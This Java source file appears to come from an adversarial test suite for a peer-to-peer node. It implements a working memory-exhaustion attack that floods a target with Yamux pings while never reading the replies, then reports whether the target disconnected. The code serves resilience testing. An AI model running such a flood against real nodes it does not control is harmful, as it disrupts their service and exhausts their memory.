package dev.cairn.adversary;

import dev.cairn.p2p.identity.HostKey;
import dev.cairn.p2p.yamux.YamuxHeader;
import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import java.io.IOException;
import java.net.InetSocketAddress;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.Map;

/**
 * An allow-listed peer (it holds a key the target admits, e.g. an observer's) that sends Yamux pings as fast
 * as the socket takes them and never reads a byte: every ping asks for an answer the target cannot hold
 * back. A target without a bound on a connection's unsent bytes keeps those answers in memory for as long as
 * the attack lasts; with one it disconnects the peer.
 *
 * @param target the node's p2p TCP address
 * @param identity the key the attacker authenticates with
 * @param sentBytesMax stop after sending this many bytes of pings even if still connected
 */
public record NeverRead(InetSocketAddress target, HostKey identity, long sentBytesMax) implements Attack {
  /** 5,000 ping headers of 12 bytes: one 60,000-byte Noise frame. */
  private static final int PINGS_PER_FRAME = 5_000;
  /** A small receive buffer: the kernel holds little of the target's answers on our side either. */
  private static final int RECEIVE_BUFFER_BYTES = 4 * 1024;

  @Override
  public String name() {
    return "never-read";
  }

  @Override
  public AttackReport run(Duration duration) throws InterruptedException {
    long start = System.nanoTime();
    long end = start + duration.toNanos();
    ByteBuf pings = Unpooled.buffer();
    for (int i = 0; i < PINGS_PER_FRAME; i++) new YamuxHeader(YamuxHeader.TYPE_PING, YamuxHeader.FLAG_SYN, 0, i).write(pings);
    byte[] frame = new byte[pings.readableBytes()];
    pings.readBytes(frame);
    long sent = 0;
    long disconnectedAfterMillis = -1;
    long connectFailed = 0;
    try (SecuredConnection c = SecuredConnection.open(target, identity, RECEIVE_BUFFER_BYTES)) {
      while (System.nanoTime() < end && sent < sentBytesMax) {
        if (Thread.interrupted()) throw new InterruptedException();
        try {
          c.sendEncrypted(frame);
          sent += frame.length;
        } catch (IOException reset) {
          disconnectedAfterMillis = (System.nanoTime() - start) / 1_000_000;
          break;
        }
      }
    } catch (IOException e) {
      connectFailed = 1;
    }
    Map<String, Long> m = new LinkedHashMap<>();
    m.put("connect_failed", connectFailed);
    m.put("ping_bytes_sent", sent);
    m.put("pings_sent", sent / YamuxHeader.BYTES);
    m.put("disconnected_by_target", disconnectedAfterMillis >= 0 ? 1L : 0L);
    m.put("disconnected_after_ms", disconnectedAfterMillis);
    return new AttackReport(name(), (System.nanoTime() - start) / 1_000_000, m);
  }
}
